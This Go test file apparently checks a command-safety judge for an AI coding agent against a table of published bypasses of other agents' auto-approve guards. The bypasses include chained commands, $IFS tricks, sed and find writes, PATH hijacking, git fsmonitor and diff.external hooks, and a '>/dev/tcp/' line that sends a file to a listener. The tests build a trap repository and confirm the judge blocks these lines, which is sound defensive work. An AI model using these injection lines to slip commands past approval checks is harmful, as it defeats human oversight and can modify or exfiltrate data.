//go:build unix

package safecmd

import (
	"context"
	"net"
	"os"
	"os/exec"
	"path"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/bb2d0cf4/agent/internal/dev/bypass"
	"github.com/bb2d0cf4/agent/internal/dev/scratch"
	"github.com/bb2d0cf4/agent/internal/programs"
)

// The weaker guards are those that were attacked: each reports whether it would run a line
// unasked.

// begins allows lines by their beginning.
func begins(line string) bool {
	return slices.ContainsFunc([]string{"ls", "echo", "cat", "rg ", "find ", "sed -n ", "sort ", "git status", "git diff", "env ", "true"}, func(p string) bool { return strings.HasPrefix(line, p) })
}

// noChains is begins without the operators that its authors thought of.
func noChains(line string) bool {
	return begins(line) && !regexp.MustCompile("[;|`]|&&|\\$\\(").MatchString(line)
}

// eachPart allows lines whose parts all begin with a known program.
func eachPart(line string) bool {
	for _, part := range regexp.MustCompile(`;|&&|\|\|?`).Split(line, 50) {
		name := path.Base(strings.Fields(part + " true")[0])
		if !slices.Contains(strings.Fields("ls echo cat rg find sed sort true export cd"), name) {
			return false
		}
	}
	return true
}

// first50 is eachPart for the first 50 parts.
func first50(line string) bool {
	parts := strings.Split(line, ";")
	return eachPart(strings.Join(parts[:min(len(parts), 50)], ";"))
}

// noExec forbids dangerous options of find as they are usually written.
func noExec(line string) bool {
	return strings.HasPrefix(line, "find ") && !strings.Contains(line, "-exec") && !strings.Contains(line, "-delete")
}

// noArrow forbids redirections as they are usually written.
func noArrow(line string) bool { return begins(line) && !regexp.MustCompile(`>[^|]`).MatchString(line) }

// inside allows redirections to files whose name stays in the folder.
func inside(line string) bool {
	m := regexp.MustCompile(`> *(\S+)$`).FindStringSubmatch(line)
	return m != nil && filepath.IsLocal(m[1])
}

// published are lines that write the file "made", or run the program "evil" that does.
var published = []struct {
	attack, line string
	weak         func(line string) bool
}{
	{"CVE-2025-54795: a second command behind echo", `echo "x"; touch made; echo "y"`, begins},
	{"CVE-2025-58764: an option of rg that runs a program", "rg --pre ./evil x a.txt", begins},
	{"CVE-2025-66032: $IFS in place of blanks", "echo$IFS'x'>made", begins},
	{"CVE-2025-64755: sed writes", "sed -n 'w made' a.txt", begins},
	{"CVE-2026-24887: find runs a program", `find a.txt -exec touch made \;`, begins},
	{"CVE-2026-25723: sed writes behind a pipe", "cat a.txt | sed 'w made'", eachPart},
	{"CVE-2026-24053: a redirection spelt otherwise", "echo x >|made", noArrow},
	{"CVE-2026-25722: cd, then a write that looks local", "cd .. && echo x > made", inside},
	{"CVE-2026-22708: a builtin changes the meaning of a known program", "export PATH=$PWD; cat a.txt", eachPart},
	{"CVE-2026-29783: an expansion with a command in it", "echo ${x:=$(touch made)}", begins},
	{"Gemini CLI, 2025: only the first word is compared, and blanks hide the rest", "ls" + strings.Repeat(" ", 500) + "; touch made", begins},
	{"Adversa: a check that gives up after 50 commands", strings.Repeat("true; ", 60) + "touch made", first50},
	{"openai/codex#20277: a backslash in an option", `find a.txt -exe\c touch made \;`, noExec},
	{"openai/codex#22189: a glob becomes an option", `find a.txt -exe? touch made \;`, noExec},
	{"openai/codex#28961: a brace becomes an option", "sort -{u,omade} a.txt", begins},
	{"openai/codex#21392: a program trusted by its base name", "./cat a.txt", eachPart},
	{"charmbracelet/crush#3566: a line break", "ls\ntouch made", noChains},
	{"charmbracelet/crush#3566: a single ampersand", "ls & touch made; wait", begins},
	{"charmbracelet/crush#3566: a redirection", "ls >made", noChains},
	{"charmbracelet/crush#3566: a program that runs another", "env touch made", noChains},
	{"charmbracelet/crush#3566: an option of git diff that writes", "git diff --output=made HEAD", noChains},
	{"openai/codex#27041, CVE-2026-19592: git status runs core.fsmonitor", "git status", noChains},
	{"CVE-2026-19593: git status runs a filter though core.fsmonitor is off", "git diff --no-ext-diff --no-textconv", noChains},
	{"git diff runs diff.external", "git diff", noChains},
}

// snare is a repository with the programs of an attacker.
func snare(t *testing.T) Place {
	t.Helper()
	p := here(t)
	p.Path = os.Getenv("PATH")
	evil := filepath.Join(p.Dir, "evil")
	made := filepath.Join(p.Dir, "made")
	scratch.Program(t, evil, "#!/bin/sh\n: >'"+made+"'\n")
	scratch.Program(t, filepath.Join(p.Dir, "cat"), "#!/bin/sh\n: >'"+made+"'\n")
	scratch.Write(t, filepath.Join(p.Dir, "a.txt"), "x\n")
	scratch.Write(t, filepath.Join(p.Dir, "-exec"), "x\n")
	for _, args := range [][]string{
		{"init", "-q"},
		{"add", "a.txt"},
		{"-c", "user.name=x", "-c", "user.email=x@x", "commit", "-qm", "x"},
		{"config", "core.fsmonitor", evil},
		{"config", "diff.external", evil},
		{"config", "filter.evil.clean", evil},
	} {
		cmd := exec.Command("git", args...)
		cmd.Dir = p.Dir
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("git %q: %v: %s", args, err, out)
		}
	}
	scratch.Write(t, filepath.Join(p.Dir, ".gitattributes"), "* filter=evil\n")
	scratch.Write(t, filepath.Join(p.Dir, "a.txt"), "changed\n")
	if err := os.RemoveAll(made); err != nil {
		t.Fatal(err)
	}
	return p
}

// runs runs a script and reports whether something was made.
func (p Place) runs(t *testing.T, script string) bool {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), 20*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, "bash", "--noprofile", "--norc", "-c", script)
	cmd.Dir, cmd.WaitDelay = p.Dir, time.Second
	cmd.Env = append([]string{"PATH=" + p.Path, "HOME=" + filepath.Dir(p.Dir)}, programs.Env...)
	_ = cmd.Run() // a line may fail and still have its effect
	for _, name := range []string{p.Dir, filepath.Dir(p.Dir)} {
		if _, err := os.Stat(filepath.Join(name, "made")); err == nil {
			return true
		}
	}
	return false
}

// TestPublishedBypasses really runs lines that got past the checks of others, if a check
// lets them run unasked.
func TestPublishedBypasses(t *testing.T) {
	for _, c := range published {
		bypass.Try(t, c.attack, "a line runs unasked only if each of its words is known to be read-only, in a hardened form", func(t *testing.T) bool {
			return c.weak(c.line) && snare(t).runs(t, c.line)
		}, func(t *testing.T) bool {
			p := snare(t)
			j := p.Judge(c.line)
			return j.Class == Safe && p.runs(t, j.Script())
		})
	}
	bypass.Try(t, "CVE-2025-55284: data leaves by a command that looks harmless", "a line runs unasked only if each of its words is known to be read-only, in a hardened form",
		func(t *testing.T) bool { return called(t, begins) },
		func(t *testing.T) bool {
			return called(t, func(line string) bool { return here(t).Judge(line).Class == Safe })
		})
}

// called reports whether a line that a guard lets run connects to a listener.
func called(t *testing.T, guard func(line string) bool) bool {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	line := "cat a.txt >/dev/tcp/" + strings.Replace(l.Addr().String(), ":", "/", 1)
	if !guard(line) {
		return false
	}
	snare(t).runs(t, line)
	if err := l.(*net.TCPListener).SetDeadline(time.Now().Add(5 * time.Second)); err != nil {
		t.Fatal(err)
	}
	c, err := l.Accept()
	if err == nil {
		_ = c.Close()
	}
	return err == nil
}
